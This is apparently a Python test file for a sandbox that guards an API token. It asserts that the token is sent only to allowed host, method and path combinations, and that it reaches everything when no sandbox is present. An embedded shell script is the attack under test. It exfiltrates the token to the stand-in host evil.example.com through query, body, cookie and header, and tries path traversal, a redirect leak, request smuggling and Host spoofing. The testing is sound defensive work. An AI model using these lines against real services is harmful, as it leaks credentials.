"""Ways in which a program could have a credential used that nobody allowed, counted where it arrives.

What hosts are sent is held against the ledger: a request with the secret has a decision of its own.
"""

import json
from collections import Counter
from collections.abc import Iterator
from contextlib import contextmanager
from typing import Any, ClassVar

from egress.upstream_servers import Handler
from real.running import Place, place
from real.world import Host, host, keep, lead

_SECRET = "tok-0123456789abcdefghijklmnopqrstuvwxyz"
_ALLOWED = [
    ("api.example.com", "GET", "/v1/a"),
    ("api.example.com", "GET", "/v1/away"),
    ("api.example.com", "GET", "/v1/b"),
]
_AIMS = {
    ("api.example.com", "GET", "/v2/other-path"),
    ("api.example.com", "POST", "/v1/other-method"),
    ("api.example.com", "GET", "/v2/within"),
    ("evil.example.com", "GET", "/redirected"),
    ("evil.example.com", "GET", "/header"),
    ("evil.example.com", "GET", "/query"),
    ("evil.example.com", "POST", "/body"),
    ("evil.example.com", "GET", "/cookie"),
}
_SCRIPT = """
ask() { curl -sS -m 20 $MORE -o /dev/null "$@" 2> /dev/null; }
bearer="Authorization: Bearer $API_TOKEN"
api=https://api.example.com; evil=https://evil.example.com
ask -H "$bearer" $api/v1/a
ask -H "$bearer" $api/v2/other-path
ask -H "$bearer" $api/v1/%2e%2e/v2/other-path
ask -H "$bearer" --path-as-is $api/v1/../v2/other-path
ask -H "$bearer" -d x=1 $api/v1/other-method
ask -H "$bearer" -X GET -H 'Content-Length: 3' --data-binary "0

GET /v2/within HTTP/1.1
Host: api.example.com
$bearer

" $api/v1/b
ask -H "$bearer" -L --location-trusted $api/v1/away
ask -H "$bearer" $evil/header
ask "$evil/query?key=$API_TOKEN"
ask --data-binary "$API_TOKEN" $evil/body
ask -b "session=$API_TOKEN" $evil/cookie
ask -H "$bearer" -H 'Host: evil.example.com' $api/header
ask -H "$bearer" -H 'Host: api.example.com' $evil/v1/a
"""


class _Logs(Handler):
    """Keeps what each host is sent, and leads away where it is asked to."""

    requests: ClassVar[list[tuple[str, str, str, str]]] = []
    evil: ClassVar[list[str]] = []

    def do_GET(self) -> None:  # noqa: N802
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode("latin-1")
        path, _, query = self.path.partition("?")
        where = self.headers["Host"].partition(":")[0]
        self.requests.append((where, self.command, path, f"{query}\n{self.headers}\n{body}"))
        if path == "/v1/away":
            self.answer(b"", status=302, Location="https://evil.example.com/redirected")
        else:
            self.answer(b"")

    do_POST = do_GET  # noqa: N815


@contextmanager
def _hosts() -> Iterator[tuple[Host, Host]]:
    _Logs.requests.clear()
    with host("api.example.com", _Logs) as api, host("evil.example.com", _Logs) as evil:
        yield api, evil


def _with_secret() -> Counter[tuple[str, str, str]]:
    """Requests that arrived with it, whatever it stood in."""
    return Counter(each[:3] for each in _Logs.requests if _SECRET in each[3])


def _decided(here: Place) -> Counter[tuple[str, str, str]]:
    """Uses of a credential that the ledger says were allowed."""
    said = here.ringfence("ledger", "show", "--json", "--type", "decision.made").out
    events: list[Any] = [each["body"] for each in json.loads(said)["events"]]
    used = [each["action"] for each in events if each["proceeds"]]
    return Counter(
        (each["host"], each["method"], each["path"]) for each in used if each["action"] == "credential.use"
    )


def test_no_credential_is_used_that_nobody_allowed() -> None:
    with place() as here, _hosts() as (api, evil):
        lead(
            here,
            api,
            evil,
            network="{host: api.example.com}, {host: evil.example.com}",
            credentials="{name: API_TOKEN, host: api.example.com}",
        )
        bound = ("--host", "api.example.com", "--path", "/v1/**", "--method", "GET")
        keep(here, "API_TOKEN", "--kind", "bearer", *bound, secret=_SECRET)
        here.write("attack.sh", _SCRIPT)
        here.sh('echo "$API_TOKEN" > earlier; . ./attack.sh')
        first = _with_secret()
        replayed = 'API_TOKEN="$(cat earlier)"; export API_TOKEN; . ./attack.sh'
        here.sh(replayed)
        assert _with_secret() == first, "what an earlier session had is worth nothing"
        unauthorised = _with_secret() - _decided(here)
        assert unauthorised == Counter()
        assert first == Counter(_ALLOWED), "and what is allowed is done"


def test_outside_of_a_box_all_of_it_arrives() -> None:
    with place() as here, _hosts() as (api, evil):
        lead(here, api, evil, network="")
        here.write("attack.sh", _SCRIPT)
        leads = " ".join(f"--connect-to {each.name}:443:127.0.0.1:{each.port}" for each in (api, evil))
        more = f"MORE=--cacert {here.home}/outside.pem {leads}"
        here.host("env", more, f"API_TOKEN={_SECRET}", "sh", "attack.sh")
        assert set(_with_secret()) >= _AIMS
